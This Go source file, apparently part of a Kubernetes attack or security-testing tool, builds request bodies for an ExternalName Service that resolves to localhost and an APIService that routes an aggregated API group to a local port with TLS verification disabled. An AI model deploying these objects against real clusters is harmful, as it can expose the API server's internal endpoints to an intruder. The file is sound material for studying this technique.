package payload

import (
	"encoding/json"
	"fmt"
)

// BehindGroup is the group of the aggregated API server, and BehindPath the path of its version.
const (
	BehindGroup = "behind.example.net"
	BehindPath  = "/apis/" + BehindGroup + "/v1"
)

// Behind returns the objects that register an API server on a local port as an aggregated one.
func Behind(port string) []Part {
	body, err := json.Marshal(object{
		"apiVersion": "v1", "kind": "Service", "metadata": object{"name": "behind"},
		"spec": object{"type": "ExternalName", "externalName": "localhost"},
	})
	if err != nil {
		panic(err) // these values always marshal
	}
	return []Part{
		{Path: "/api/v1/namespaces/default/services", Body: body},
		{Path: "/apis/apiregistration.k8s.io/v1/apiservices", Body: fmt.Appendf(nil,
			`{"apiVersion":"apiregistration.k8s.io/v1","kind":"APIService","metadata":{"name":"v1.%s"},"spec":{"group":%q,"version":"v1",
			"groupPriorityMinimum":1000,"versionPriority":15,"insecureSkipTLSVerify":true,"service":{"namespace":"default","name":"behind","port":%s}}}`,
			BehindGroup, BehindGroup, port)},
	}
}
